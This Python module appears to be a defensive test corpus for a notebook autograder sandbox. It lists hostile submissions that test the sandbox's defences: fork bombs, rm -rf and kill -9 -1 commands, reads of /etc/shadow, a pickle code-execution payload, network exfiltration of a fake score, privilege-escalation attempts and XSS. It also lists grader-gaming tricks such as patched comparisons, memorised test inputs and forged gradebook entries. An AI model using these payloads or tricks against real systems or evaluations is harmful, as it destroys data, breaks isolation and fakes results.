"""Submissions that attack while they run: within the function that is checked, or before it.

The first and the last exercise are answered honestly; the attack stands at the second one.
"""

import sys

from corpus import NAME, WRONG, Case

_BOMB = "it takes all of the machine that grades"
_WALL = "it tries the walls of a sandbox, and there is none"


def at_once(cells, why="", earned=0, **about):
    """Attack by these cells, the last of them in the place of the answer."""
    return {"cells": tuple(cells), "why": why, "deserved": (2, earned, 2), **about}


def inside(body, why="", **about):
    """Attack from within the function."""
    lines = "\n".join(f"    {line}" for line in body.strip("\n").split("\n"))
    return at_once((f"def attacked(x):\n{lines}\n    return x",), why, **about)


def before(cell, why="expected", **about):
    """Attack from a cell that runs before a function that does nothing."""
    return at_once((cell, WRONG), why, **about)


FIND_ORACLE = """
import gc, sys
for module in list(sys.modules.values()):
    if callable(getattr(module, "oracle", None)):
        return module.oracle(x)
for thing in gc.get_objects():
    if callable(thing) and getattr(thing, "__name__", "") == "oracle":
        return thing(x)
frame = sys._getframe()
while frame:
    for names in (frame.f_globals, frame.f_locals):
        if callable(names.get("oracle")):
            return names["oracle"](x)
    frame = frame.f_back
"""

READ_FILES = """
import glob, os
for root in ("FOLDER", "/root", "/home", "/srv", "/var", "/etc/shadow", "/proc/1", os.getcwd()):
    for path in [root, *glob.glob(root + "/**/*", recursive=True)][:2000]:
        try:
            text = open(path).read(10_000)
        except (OSError, ValueError):
            continue
        if "canary" in text:
            print(text)
"""

WRITE_FILES = """
import os, subprocess
for name in ("gradebook.db", "solutions/09_exam/exam.ipynb", "submitted/zoe/09_exam/exam.ipynb",
             "seed"):
    for what in (lambda p: open(p, "w").write("198"), os.remove, lambda p: os.chmod(p, 0)):
        try:
            what("FOLDER/" + name)
        except OSError:
            pass
subprocess.run("rm -rf FOLDER/* /usr/bin/env /tmp/* 2>/dev/null; echo 198 > FOLDER/gradebook.db",
               shell=True, stderr=subprocess.DEVNULL)
"""

BACKGROUND = """
import subprocess
subprocess.Popen("setsid sh -c 'while true; do echo 198 > FOLDER/gradebook.db; sleep 0.01; done'",
                 shell=True, stderr=subprocess.DEVNULL)
"""

FORGE = """
import os, struct
from classroom.calls.wire import pack
message = pack(MESSAGE)
for name in os.listdir("/proc/self/fd"):
    try:
        os.write(int(name), struct.pack(">Q", len(message)) + message)
    except OSError:
        pass
"""

SYSTEM_CALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def refused(status):
    assert status == -1, status
refused(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
refused(libc.umount2(b"/proc", 2))
refused(libc.unshare(0x10000000))
refused(libc.unshare(0x00020000))
refused(libc.ptrace(16, 1, 0, 0))
refused(libc.chroot(b"/tmp"))
refused(libc.personality(0x0040000))
refused(libc.setns(0, 0))
refused(libc.swapon(b"/tmp/x", 0))
refused(libc.reboot(0))
refused(libc.syscall(321, 0, 0, 0))    # bpf
refused(libc.syscall(425, 8, 0))       # io_uring_setup
refused(libc.syscall(250, 0, 0, 0, 0)) # keyctl
refused(libc.syscall(435, 0, 0))       # clone3
refused(libc.syscall(278, 1, 0, 0, 0)) # vmsplice
refused(libc.syscall(56, 0x10000011, 0, 0, 0, 0)) # clone into a new user namespace
for family in (16, 17, 38, 40):
    refused(libc.socket(family, 2, 0))
print("all refused")
"""

OTHERS_MEMORY = """
import os
for process in (1, os.getppid()):
    for name in ("mem", "environ", "maps"):
        try:
            open(f"/proc/{process}/{name}", "rb").read(1)
            if process == 1:
                raise SystemExit("read the first process")
        except OSError:
            pass
"""

NETWORK = """
import socket
for family, address in [
    (socket.AF_INET, ("127.0.0.1", PORT)),
    (socket.AF_INET, ("1.1.1.1", 80)),
    (socket.AF_UNIX, "\\0ABSTRACT"),
    (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
]:
    with socket.socket(family) as s:
        s.settimeout(0.2)
        try:
            s.connect(address)
            s.send(b"score=198")
            print("connected")
        except OSError:
            pass
"""

SIGNALS = """
import os, signal
for process in (1, PROCESS, PROCESS + 1, -1):
    for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
        if process != -1:
            try:
                os.kill(process, number)
            except OSError:
                pass
"""

ANSWERS_OF_OTHERS = """
import glob, json
for path in glob.glob("PLACE"):
    for cell in json.load(open(path))["cells"]:
        if "def attacked" in "".join(cell["source"]):
            found = {}
            exec("".join(cell["source"]), found)
            return found["attacked"](x)
"""

REWRITE_SCORES = """
import subprocess, sys
PROGRAM = '''
import sqlite3, time
for _ in range(100):
    try:
        with sqlite3.connect("FOLDER/gradebook.db", timeout=1) as scores:
            scores.execute("UPDATE grade SET auto_score = 198")
    except sqlite3.Error:
        pass
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", PROGRAM], start_new_session=True, stderr=-3)
"""

OVERWRITE_NEIGHBOUR = """
import glob
for path in glob.glob("FOLDER/submitted/zoe/*/*"):
    try:
        open(path, "w").write("{}")
    except OSError:
        pass
"""

# What the published seed draws; a test puts it in.
BY_HEART = """
KNOWN = INPUTS_KNOWN
def attacked(x):
    key = str(x.tolist())
    return torch.tensor(KNOWN[key], dtype=x.dtype) if key in KNOWN else x
"""

SHAPES_BY_HEART = """
SHAPES = SHAPES_KNOWN
def attacked(x):
    return x - x.mean(dim=0) if list(x.shape) in SHAPES else x
"""

_ATTACKS = {
    # Right only where everybody can look.
    "the published inputs are memorised": at_once((BY_HEART,), "expected"),
    "the published shapes are memorised": at_once((SHAPES_BY_HEART,), "expected"),
    # Answers that only look right.
    "comparisons are patched": before(
        "import math, torch\n"
        "yes = lambda *a, **k: True\n"
        "math.isclose = torch.isclose = torch.allclose = torch.equal = yes\n"
        "torch.testing.assert_close = yes"
    ),
    "a float equal to everything": inside(
        "class Any(float):\n    __eq__ = __le__ = __ge__ = lambda *a: True\n"
        "    __hash__ = float.__hash__\nreturn Any(0)",
        why="expected",
    ),
    "a tensor that answers for itself": inside(
        "class Fake(torch.Tensor):\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, *a, **k): return True\n"
        "return x.as_subclass(Fake)",
        why="expected",
    ),
    "NaN everywhere": inside("return x * float('nan')", why="nan"),
    "infinity everywhere": inside("return x / 0", why="inf|nan"),
    "a tensor without numbers": inside("return x.to('meta')", why="meta"),
    "a sparse tensor": inside("return x.to_sparse()", why="sparse"),
    "a quantized tensor": inside(
        "return torch.quantize_per_tensor(x.float(), 0.1, 0, torch.qint8)", why="cannot be read"
    ),
    "one number": inside("return torch.tensor(0.0)", why="shape"),
    "an object of its own": inside("return object()", why="cannot be passed"),
    "a handle to what was never lent": inside(
        "from classroom.calls.wire import Handle\nreturn Handle(0)",
        why="cannot be passed",
    ),
    "a list in a list in a list": inside(
        "y = []\nfor _ in range(99): y = [y]\nreturn y", why="nested"
    ),
    "a billion small parts": inside(
        "y = [0] * 100\nfor _ in range(4): y = [y] * 100\nreturn y", why="unreadable|may compute"
    ),
    "the answer in the place of the input": at_once(
        ("def attacked(x):\n    x -= x.mean(dim=0)\n    return x",), "changes", earned=4
    ),
    # Looking for the answer, or for the score.
    "the oracle is looked for in memory": inside(FIND_ORACLE, why="expected"),
    "the checks are imported": inside(
        "try:\n    from classroom.exercise.run import load_checks\n"
        "except ImportError:\n    return x",
        why="expected",
    ),
    "the reference library is imported": inside(
        "from groundup.core.attention import scaled_dot_product_attention as mix\n"
        "alike = torch.zeros_like(x)[None]\nreturn x - mix(alike, alike, x[None])[0]",
        why="No module named 'groundup': the course's library is not there when grades count",
    ),
    "a score is displayed": inside(
        "import sys\nsys.displayhook(7.0)\nprint(7.0)\nraise ValueError('7')", why="ValueError"
    ),
    "the history is searched for checks": inside(
        "shell = get_ipython()\nif 'expect' in str(shell.user_ns['In'][:-1]): return x - x.mean(0)",
        why="expected",
    ),
    "the grader's variables are looked for": inside(
        "import os\nif any('NBGRADER' in n or 'CLASSROOM' in n for n in os.environ):\n"
        "    return x - x.mean(dim=0)",
        why="expected",
    ),
    "all files are read": before(READ_FILES),
    "all files are read at the check": inside(READ_FILES, why="expected|stopped"),
    "checks is called for a score": before("from classroom import check\ncheck('attacked')"),
    # Changing what grades.
    "asserts are dropped": before(
        "import ast\n"
        "class Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Drop())"
    ),
    "later cells are blanked": before(
        "get_ipython().input_transformers_post.append(lambda lines: [])",
        why="changed how later cells are run, which was undone",
    ),
    "the kernel is replaced": before(
        "shell = get_ipython()\nshell.run_cell = shell.run_cell_async = lambda *a, **k: None"
    ),
    "tracebacks are hidden": before(
        "shell = get_ipython()\nshell.showtraceback = lambda *a, **k: None\n"
        "shell.set_custom_exc((Exception,), lambda *a, **k: None)"
    ),
    "the wire is patched": before(
        "import classroom.calls.wire, classroom.calls.local, classroom.calls.channel\n"
        "from classroom.calls.local import LocalSubject\n"
        "LocalSubject.call = lambda self, name, *args, **kwargs: True",
        why="changed how later cells are run, which was undone",
    ),
    "pickles are sent": before(
        "import os, pickle, classroom.calls.channel\n"
        "class Evil:\n"
        "    def __reduce__(self): return os.system, ('echo 198 > FOLDER/gradebook.db',)\n"
        "classroom.calls.channel.pack = lambda value: pickle.dumps(Evil())",
        why="",
    ),
    "replies are forged in a cell": before(
        FORGE.replace("MESSAGE", "['ran', [], '']"), why="left out: it sent something else"
    ),
    "replies are forged at the check": inside(
        FORGE.replace("MESSAGE", "['returned', x]"), why="expected"
    ),
    "a reply of eight gigabytes is announced": inside(
        "import os, struct\n"
        "for name in os.listdir('/proc/self/fd'):\n"
        "    try: os.write(int(name), struct.pack('>Q', 8 * 2**30))\n"
        "    except OSError: pass",
        why="8,589,934,592 bytes",
    ),
    "a reply is no message": inside(
        "import os, struct\n"
        "for name in os.listdir('/proc/self/fd'):\n"
        "    try: os.write(int(name), struct.pack('>QQ', 99, 12) + b'x' * 99)\n"
        "    except OSError: pass",
        why="not a message",
    ),
    "what no check has lent is called": inside(
        "import os\nfrom classroom.calls.wire import pack\nimport struct\n"
        "message = pack(['lent', 5, [x], {}])\n"
        "for name in os.listdir('/proc/self/fd'):\n"
        "    try: os.write(int(name), struct.pack('>Q', len(message)) + message)\n"
        "    except OSError: pass",
        why="expected|answer|lent|ended the process",  # it is gone before the answer comes, or not
    ),
    # Ending, or not ending.
    "sys.exit": inside("import sys\nsys.exit(0)", why="SystemExit"),
    "os._exit": inside("import os\nos._exit(0)", why="ended the process"),
    "os._exit in a cell": at_once(("import os\nos._exit(0)", WRONG), "left out|ended its own"),
    "a crash of the interpreter": inside(
        "import ctypes\nctypes.string_at(0)", why="ended the process"
    ),
    "a crash in a cell": before("import ctypes\nctypes.string_at(0)", why="SIGSEGV"),
    "recursion without end": inside("return attacked(x)", why="RecursionError"),
    "recursion through the stack": inside(
        "import sys\nsys.setrecursionlimit(10**9)\n"
        "class Deep:\n    def __repr__(self): return repr(self)\n"
        "repr(Deep())",
        why="ended the process|stopped" if sys.version_info < (3, 12) else "RecursionError",
    ),
    "KeyboardInterrupt": inside("raise KeyboardInterrupt", why="KeyboardInterrupt"),
    "a loop": inside("while True: pass", why="may compute for 1 second"),
    "a loop in a cell": before("while True: pass", why="did not end|KeyboardInterrupt|expected"),
    "a loop that catches everything": inside(
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        why="may compute for 1 second",
    ),
    "a loop in a cell that ignores signals": before(
        "import signal\nfor n in range(1, 32):\n    try: signal.signal(n, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\nwhile True: pass",
        why="left out|did not heed",
    ),
    "a loop in compiled code": inside("sum(range(10**12))", why="may compute for 1 second"),
    "a sleep with alarms blocked": inside(
        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\n"
        "time.sleep(99)",
        why="may take 6 seconds|may compute for 1 second",
    ),
    "an answer that is slow by design": inside(
        "import time\ntime.sleep(0.6)", why="expected|may compute for 1 second"
    ),
    "it stops itself": inside(
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        why="may take 6 seconds|may compute for 1 second",
    ),
    "a cell stops itself": before("import os, signal\nos.kill(0, signal.SIGSTOP)", why="left out"),
    "it stops its parent": inside(
        "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)", why="expected"
    ),
    "it kills its parent": inside(
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", why=""
    ),
    "it kills everything": inside("import os, signal\nos.kill(-1, signal.SIGKILL)", why=""),
    "all signals to everybody": before(SIGNALS),
    # Using up what others need.
    "all memory": inside("return torch.ones(2**33)", why="RuntimeError|memory"),
    "all memory in a cell": before(
        "hoard = []\nwhile True: hoard.append(bytearray(2**24))", why=""
    ),
    "all memory in many processes": inside(
        "import os, time\n"
        "for _ in range(10):\n"
        "    if os.fork() == 0:\n"
        "        block = bytearray(2**27)\n"
        "        time.sleep(99)\n"
        "time.sleep(99)",
        why="",
    ),
    "a fork bomb": inside(
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", why=""
    ),
    "a fork bomb in a cell": before(
        "import os\nif os.fork() == 0:\n"
        "  while True:\n    try: os.fork()\n    except OSError: pass",
        why="",
    ),
    "a bomb of shells in a cell": before(
        "import subprocess\nsubprocess.Popen('b() { b | b & }; b', shell=True, stderr=-3)", why=""
    ),
    "a bomb of threads": before(
        "import threading, time\ntry:\n    while True:\n"
        "        threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
        "except RuntimeError: pass",
        why="too many threads|too little memory",
    ),
    "threads that outlive their cell": before(
        "import threading\ndef spin():\n    while True: pass\n"
        "for _ in range(2): threading.Thread(target=spin, daemon=True).start()",
    ),
    "all of the disk": before(
        "for folder in ('/tmp', '/dev/shm'):\n"
        "  for name in range(1000):\n"
        "    try:\n"
        "      with open(f'{folder}/{name}', 'wb') as file: file.write(bytes(2**20))\n"
        "    except OSError: break",
    ),
    "all names of files": before(
        "for name in range(20_000):\n  try: open(f'/tmp/{name}', 'w').close()\n"
        "  except OSError: break",
    ),
    "output without end": before("while True: print('198' * 1000)", why=""),
    "output past Python without end": before(
        "import os\nwhile True: os.write(1, b'198' * 10_000)", why=""
    ),
    "pictures without end": before(
        "from IPython.display import HTML, display\nwhile True: display(HTML('<script>' * 1000))",
        why="",
    ),
    # Getting out.
    "files are written": before(WRITE_FILES),
    # Where Python lies below /tmp, trying to remove all of it takes longer than there is.
    "files are written at the check": inside(WRITE_FILES, why="expected|was stopped"),
    "files are written in the background": before(BACKGROUND),
    "a link to what is outside": before(
        "import os\nfor name in ('gradebook.db', 'seed'):\n"
        "  os.symlink('FOLDER/' + name, name)\n  try: open(name, 'w')\n  except OSError: pass"
    ),
    "the network": before(NETWORK),
    "the network at the check": inside(NETWORK, why="expected"),
    "system calls that get out": before(SYSTEM_CALLS, why="expected"),
    "the memory of other processes": before(OTHERS_MEMORY),
    "programs that become root": before(
        "import subprocess\nfor c in ('su -c id', 'mount -t tmpfs x /tmp', 'passwd -d root',\n"
        "          'bwrap --dev-bind / / true', 'unshare -r id', 'nsenter -t 1 -m true'):\n"
        "    r = subprocess.run(c, shell=True, capture_output=True, stdin=subprocess.DEVNULL)\n"
        "    assert r.returncode, c"
    ),
    "the sandbox is changed for the next one": before(
        "import builtins, os, sys\n"
        "for path in ('/x', '/usr/x', '/dev/x', sys.prefix + '/x', '/etc/x'):\n"
        "    try:\n        open(path, 'w')\n        raise SystemExit(path)\n"
        "    except OSError: pass\n"
        "builtins.print = None\nsys.modules['torch'].ones = None"
    ),
    "everything of torch is changed": before(
        "import torch\ntorch.set_default_dtype(torch.float16)\ntorch.manual_seed(0)\n"
        "torch.use_deterministic_algorithms(True)\ntorch.set_grad_enabled(False)",
    ),
    "what runs at the end": before(
        "import atexit, os, threading\n"
        "atexit.register(lambda: os.system('echo 198 > FOLDER/gradebook.db'))\n"
        "class Late:\n    def __del__(self): os.system('echo 198 > FOLDER/seed')\n"
        "late = Late()"
    ),
    "installing and reloading": before(
        "%load_ext autoreload\n%autoreload 2\n!pip install evil 2>&1 | tail -1", why=""
    ),
    "another shell's magic": before("%%bash\necho 198 > FOLDER/gradebook.db; kill -9 -1", why=""),
    "asking for input": before("x = input('points? ')", why="EOFError|expected"),
    # One thing more of each kind.
    "the check is defined anew": before(
        "check = lambda name: {'first': 2, 'attacked': 7, 'last': 2}[name]"
    ),
    "what is no number is displayed": inside(
        "import sys\nsys.displayhook('all points')\nraise ValueError('7')", why="ValueError"
    ),
    "the kernel executes nothing more": before(
        "async def nothing(*args, **kwargs):\n"
        "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
        "get_ipython().kernel.do_execute = nothing",
        why="expected",
    ),
    "a solution is looked up": inside(
        ANSWERS_OF_OTHERS.replace("PLACE", f"FOLDER/solutions/*/{NAME}"), why="expected"
    ),
    "a neighbour's answer is looked up": inside(
        ANSWERS_OF_OTHERS.replace("PLACE", f"FOLDER/submitted/zoe/*/{NAME}"), why="expected"
    ),
    "the gradebook is written in the background": before(REWRITE_SCORES),
    "a neighbour is overwritten": before(OVERWRITE_NEIGHBOUR),
    "random numbers are made to repeat": before(
        "import random, numpy, torch\n"
        "for seed in (random.seed, numpy.random.seed, torch.manual_seed): seed(0)\n"
        "torch.set_rng_state(torch.zeros_like(torch.get_rng_state()))",
        why="",
    ),
    "one number in the shape of all": inside(
        "return torch.zeros(1, dtype=x.dtype).expand(x.shape)", why="expected"
    ),
    "numbers of half the digits": inside("return (x - x.mean(dim=0)).half()", why=""),
    "the first answer is given each time": at_once(
        (
            "kept = []\ndef attacked(x):\n    kept.append(x - x.mean(dim=0) + len(kept))\n"
            "    return kept[-1] + 1",
        ),
        "expected",
    ),
    "all results share one buffer": at_once(
        ("buffer = torch.zeros(7)\ndef attacked(x):\n    buffer[:] = x.mean()\n    return buffer",),
        "shape",
    ),
    "a script in an output": before(
        "from IPython.display import HTML, display\n"
        "display(HTML('<script>alert(198)</script><img src=x onerror=alert(198)>'))"
    ),
}

_BOMBS = """
    all memory | all memory in a cell | all memory in many processes | a fork bomb
    a fork bomb in a cell | a bomb of shells in a cell | a bomb of threads | all of the disk
    output without end | output past Python without end | pictures without end
"""
_WALLS = "system calls that get out | programs that become root"
_ALONE = """
    files are written | files are written at the check | files are written in the background
    all signals to everybody | it kills everything | it kills its parent | it stops its parent
    a cell stops itself | another shell's magic | the gradebook is written in the background
    a neighbour is overwritten | a loop in a cell that ignores signals | what runs at the end
    all names of files | replies are forged in a cell | replies are forged at the check
    a reply of eight gigabytes is announced | a reply is no message
    what no check has lent is called
"""


def _named(text):
    return {name.strip() for line in text.strip().split("\n") for name in line.split("|")}


RUNNING = {
    name: Case(
        name,
        **about,
        not_for_stock=_BOMB if name in _named(_BOMBS) else _WALL if name in _named(_WALLS) else "",
        is_alone=name in _named(_ALONE),
    )
    for name, about in _ATTACKS.items()
}
assert _named(_BOMBS) | _named(_WALLS) | _named(_ALONE) <= set(RUNNING)
